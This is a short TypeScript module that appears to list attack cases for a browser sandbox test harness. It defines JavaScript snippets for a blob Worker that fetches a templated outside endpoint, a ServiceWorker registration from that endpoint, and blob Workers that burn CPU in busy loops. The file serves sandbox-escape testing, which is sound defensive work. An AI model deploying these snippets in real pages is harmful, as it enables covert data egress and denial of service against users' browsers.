import type { Attack } from "../support/attack.ts";

export const workerAttacks: readonly Attack[] = [
  {
    id: "worker-blob",
    title: "Worker from blob: that fetches",
    code: String.raw`new Worker(URL.createObjectURL(new Blob(["fetch('{{E}}/x/{{T}}',{mode:'no-cors'})"])))`,
    signs: ["egress"],
  },
  {
    id: "serviceworker",
    title: "ServiceWorker registration",
    code: String.raw`await navigator.serviceWorker.register('{{E}}/js/{{T}}')`,
    signs: ["egress"],
    powerless: "a service worker has to be of the frame’s own origin",
  },
  {
    id: "worker-spin",
    title: "blob Workers that burn CPU behind a live heartbeat",
    code: String.raw`for(let i=0;i<2;i++){const w=new Worker(URL.createObjectURL(new Blob(['postMessage(1);const t=Date.now();while(Date.now()-t<2500);'])));w.onmessage=()=>P('worker is burning CPU')}`,
    signs: ["log"],
    ownTile: true,
  },
];
